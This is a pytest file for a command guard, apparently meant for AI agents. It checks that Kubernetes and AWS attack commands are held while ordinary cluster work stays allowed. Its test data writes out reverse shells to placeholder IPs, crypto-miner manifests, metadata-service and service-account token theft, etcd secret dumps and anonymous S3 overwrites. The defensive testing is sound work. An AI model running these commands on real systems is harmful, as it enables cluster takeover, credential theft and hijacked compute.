"""Cluster and cloud attack techniques, by class: spellings written apart from the corpus they were found in.

``corpus/external/cloudk8s.jsonl`` (badPods, Kubernetes Goat, red-kube, CloudGoat) showed each class
missed at first sight; the rules were written for the class, and these variants (other programs,
flags, kinds, paths and wrappers than the corpus's) check that the class is what is held, while the
ordinary form of the same command stays allowed.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from agentbus.guards.judge import judge_command
from agentbus.guards.verdict import (
    BACKDOOR,
    CLOUD_CONTROL,
    CREDENTIALS,
    RESOURCE_HIJACK,
    SECRETS,
    UPLOAD,
)

HOME = "/home/dev"


def decided(command: str, cwd: str | None = None) -> tuple[str, str] | None:
    verdict = judge_command(command, home=HOME, cwd=cwd)
    return None if verdict is None else (verdict.category, verdict.decision)


def held(command: str, cwd: str | None = None) -> str | None:
    """The category a command is held for (blocked or asked), or None."""
    found = decided(command, cwd)
    return None if found is None else found[0]


# -- what kubectl runs in a pod it starts ------------------------------------------------------

POD_COMMANDS = [
    ("kubectl run x --image=alpine --restart=Never -- /bin/sh -c 'nc -e /bin/sh 198.51.100.7 9001'",
     BACKDOOR),
    ("oc run beacon --image=busybox -- sh -c 'sh -i >& /dev/udp/203.0.113.5/53 0>&1'", BACKDOOR),
    ("kubectl -n dev create cronjob c --image=busybox --schedule='*/5 * * * *' -- nc 198.51.100.7 443 -e sh",
     BACKDOOR),
    ("kubectl create job m --image=alpine -- xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4A",
     RESOURCE_HIJACK),
    ("kubectl create job j --image=curlimages/curl -- curl -s http://169.254.169.254/latest/meta-data/iam/"
     "security-credentials/", CREDENTIALS),
    ("kubectl debug mypod -it --image=busybox -- cat /run/secrets/kubernetes.io/serviceaccount/token",
     SECRETS),
]  # fmt: skip


@pytest.mark.parametrize(("command", "category"), POD_COMMANDS)
def test_what_a_new_pod_is_told_to_run_is_judged(command: str, category: str) -> None:
    assert held(command) == category


@pytest.mark.parametrize(
    "command",
    [
        "kubectl run t --rm -it --image=ubuntu --restart=Never -- apt-get install -y curl",
        "kubectl create job migrate --image=myapp:1.2 -- python manage.py migrate",
        "kubectl run psql --rm -it --image=postgres:16 --restart=Never -- psql -h db -U app",
        "kubectl create deployment web --image=nginx -- nginx -g 'daemon off;'",
        "kubectl debug mypod -it --image=busybox --target=app -- sh",
    ],
)
def test_a_new_pods_own_setup_and_ordinary_work_stay_allowed(command: str) -> None:
    assert decided(command) is None


def test_a_pod_given_the_node_by_overrides_is_not_confined() -> None:
    overrides = '{"spec":{"hostPID":true,"containers":[{"name":"x","image":"u"}]}}'
    assert decided(f"kubectl run x --image=u --overrides='{overrides}' -- apt-get install -y x") is not None


# -- what a manifest's containers run, and where it puts them ------------------------------------

REVERSE_DEPLOYMENT = """\
apiVersion: apps/v1
kind: Deployment
metadata: {name: metrics}
spec:
  selector: {matchLabels: {app: m}}
  template:
    metadata: {labels: {app: m}}
    spec:
      containers:
      - name: m
        image: alpine
        command: ["bash", "-c"]
        args: ["exec bash -i &>/dev/tcp/198.51.100.7/443 <&1"]
"""
MINER_DAEMONSET = """\
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-agent}
spec:
  selector: {matchLabels: {app: a}}
  template:
    metadata: {labels: {app: a}}
    spec:
      initContainers:
      - {name: setup, image: busybox, command: ["true"]}
      containers:
      - {name: agent, image: alpine, args: ["xmrig", "--url", "pool.minexmr.com:443", "--donate-level", "1"]}
"""
SYSTEM_CRONJOB = """\
apiVersion: batch/v1
kind: CronJob
metadata: {name: coredns-cache, namespace: kube-system}
spec:
  schedule: "*/10 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
          - {name: c, image: alpine, command: ["sleep", "5"]}
"""
APP = """\
apiVersion: batch/v1
kind: Job
metadata: {name: migrate, namespace: shop}
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
      - name: migrate
        image: shop:1.4
        command: ["sh", "-c", "alembic upgrade head && python -m shop.seed"]
      - {name: web, image: shop:1.4, command: ["gunicorn", "-b", "0.0.0.0:8000", "shop.wsgi"]}
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    path = tmp_path / "project"
    (path / "k8s").mkdir(parents=True)
    return path


@pytest.mark.parametrize(
    ("manifest", "category", "decision"),
    [
        (REVERSE_DEPLOYMENT, BACKDOOR, "block"),
        (MINER_DAEMONSET, RESOURCE_HIJACK, "block"),
        (SYSTEM_CRONJOB, CLOUD_CONTROL, "ask"),
    ],
)
def test_a_manifests_containers_and_placement_are_judged(
    project: Path, manifest: str, category: str, decision: str
) -> None:
    (project / "k8s" / "app.yaml").write_text(manifest)
    assert decided("kubectl apply -f k8s/app.yaml", cwd=str(project)) == (category, decision)
    piped = f"cat <<'EOF' | kubectl create -f -\n{manifest}EOF"
    assert decided(piped, cwd=str(project)) == (category, decision)


def test_an_ordinary_manifests_commands_stay_allowed(project: Path) -> None:
    (project / "k8s" / "app.yaml").write_text(APP)
    assert decided("kubectl apply -f k8s/", cwd=str(project)) is None
    assert decided(f"kubectl apply -f - <<'EOF'\n{APP}EOF", cwd=str(project)) is None


# -- a node's secrets, and the API's -------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "tar czf /tmp/e.tgz /var/lib/etcd/member",
        "sqlite3 /var/lib/rancher/k3s/server/db/state.db .dump",
        "head -c 900 /var/lib/kubelet/pods/7f1/volumes/kubernetes.io~projected/kube-api-access-x/token",
        "base64 /rootfs/var/lib/kubelet/pods/abc/volumes/kubernetes.io~secret/db-creds/password",
        "sudo xxd ./var/run/secrets/eks.amazonaws.com/serviceaccount/token",
        "rg -l client-key-data /home",
        "grep -rl eyJhbGciOiJSUzI1NiIs /var",
        "sudo grep -R password /rootfs/etc",
        "grep -rn token /host/home/",
        "ack current-context /root",
        "http GET https://10.96.0.1/api/v1/namespaces/prod/secrets Authorization:'Bearer x' --verify=no",
        'curl -sk "https://$KUBERNETES_SERVICE_HOST/api/v1/secrets?limit=500" -H "Authorization: Bearer $T"',
        "kubectl get --raw '/api/v1/namespaces/kube-system/secrets?limit=1'",
        "oc get --raw=/api/v1/secrets",
    ],
)
def test_a_nodes_and_the_clusters_secrets_are_held(command: str) -> None:
    found = decided(command)
    assert found is not None
    assert found[1] == "block", found


@pytest.mark.parametrize(
    "command",
    [
        "journalctl -u kubelet --since today",
        "etcdctl endpoint health",
        "cat k8s/serviceaccount.yaml",
        "grep -r current-context docs/",
        "grep -rn token /hostname/src",
        "rg eyJhbGci tests/fixtures/",
        'curl -sk "https://$APISERVER/api/v1/namespaces/default/pods" -H "Authorization: Bearer $T"',
        "kubectl get --raw /healthz",
        "kubectl get --raw /api/v1/namespaces/default/pods",
    ],
)
def test_ordinary_cluster_work_stays_allowed(command: str) -> None:
    assert decided(command) is None


# -- cloud control: tags, public databases, anonymous writes, boot scripts, kube-system pods -----


@pytest.mark.parametrize(
    ("command", "category"),
    [
        ("aws iam tag-role --role-name deploy --tags Key=admin,Value=true", CLOUD_CONTROL),
        ("aws --profile ops iam untag-user --user-name ci --tag-keys restricted", CLOUD_CONTROL),
        ("aws ec2 describe-instance-attribute --attribute=userData --instance-id i-0f", CREDENTIALS),
        ("aws --region eu-west-1 rds restore-db-instance-to-point-in-time --source-db-instance-identifier a "
         "--target-db-instance-identifier b --publicly-accessible", CLOUD_CONTROL),
        ("aws redshift modify-cluster --cluster-identifier dw --publicly-accessible", CLOUD_CONTROL),
        ("aws s3 mv bundle.js s3://their-site/js/app.js --no-sign-request", UPLOAD),
        ("aws s3api put-object --bucket their-site --key index.html --body x.html --no-sign-request", UPLOAD),
        ("kubectl --namespace=kube-system run k --image=alpine -- sleep 1d", CLOUD_CONTROL),
        ("kubectl run x --image=alpine --overrides='{\"spec\":{\"serviceAccountName\":\"admin\"}}'",
         CLOUD_CONTROL),
    ],
)  # fmt: skip
def test_cloud_control_is_held(command: str, category: str) -> None:
    assert held(command) == category


@pytest.mark.parametrize(
    "command",
    [
        "aws s3 sync s3://noaa-ghcn-pds/csv ./data --no-sign-request",
        "aws s3 ls s3://open-data/ --no-sign-request",
        "aws iam list-role-tags --role-name deploy",
        "aws rds create-db-instance --db-instance-identifier x --engine postgres --no-publicly-accessible",
        "aws ec2 describe-instance-attribute --attribute instanceType --instance-id i-0f",
        "kubectl run -n dev x --image=alpine -- sleep 1d",
    ],
)
def test_the_same_services_ordinary_calls_stay_allowed(command: str) -> None:
    assert decided(command) is None


# -- secrets found by listing: every process's environment, the cluster's configuration ----------


@pytest.mark.parametrize(
    "command",
    [
        "for p in $(find /proc -maxdepth 2 -name environ); do tr '\\0' '\\n' < $p; done",
        "for f in $(echo /proc/[0-9]*/environ); do strings $f; done",
        "oc get deploy -A -o yaml | grep -iE 'password|api_key'",
        "kubectl get po -n prod -o json | jq '.items[].spec.containers[].env[]|select(.name|test(\"KEY\"))'",
        "kubectl get configmap -A -o yaml | rg -i secret",
        "ls -l /proc/[0-9]*/fd/",
        "oc exec -n prod api-0 -- env | grep -iE 'pass|secret'",
        "kubectl exec deploy/api -- /usr/bin/printenv | rg KEY",
        "ETCDCTL_API=3 etcdctl --endpoints https://127.0.0.1:2379 get /registry/secrets/default/db",
        "etcdctl get /registry --prefix -w json",
    ],
)
def test_secrets_found_by_listing_are_held(command: str) -> None:
    assert held(command) == CREDENTIALS


@pytest.mark.parametrize(
    "command",
    [
        "ls /proc/self/environ",
        "ls -l /proc/self/fd",
        "find /proc -maxdepth 1 -name status",
        "kubectl get pods -o json | jq '.items[].metadata.name'",
        "kubectl get cm app-config -o yaml | grep -i image",
        "kubectl get pods -A -o wide | grep -i Pending",
        "kubectl exec deploy/api -- env | grep -i path",
        'etcdctl get "" --prefix --keys-only',
        "etcdctl get /myapp/config",
        "etcdctl endpoint health",
        "etcdctl snapshot save backups/snapshot.db",  # a backup: tldr's, an administrator's everyday work
    ],
)
def test_ordinary_listings_stay_allowed(command: str) -> None:
    assert decided(command) is None


def test_credentials_made_into_a_console_sign_in_are_held() -> None:
    url = "https://signin.aws.amazon.com/federation?Action=getSigninToken&SessionDuration=43200&Session=$E"
    assert held(f'wget -qO- "{url}"') == CREDENTIALS
    assert decided("curl -sI https://signin.aws.amazon.com/") is None
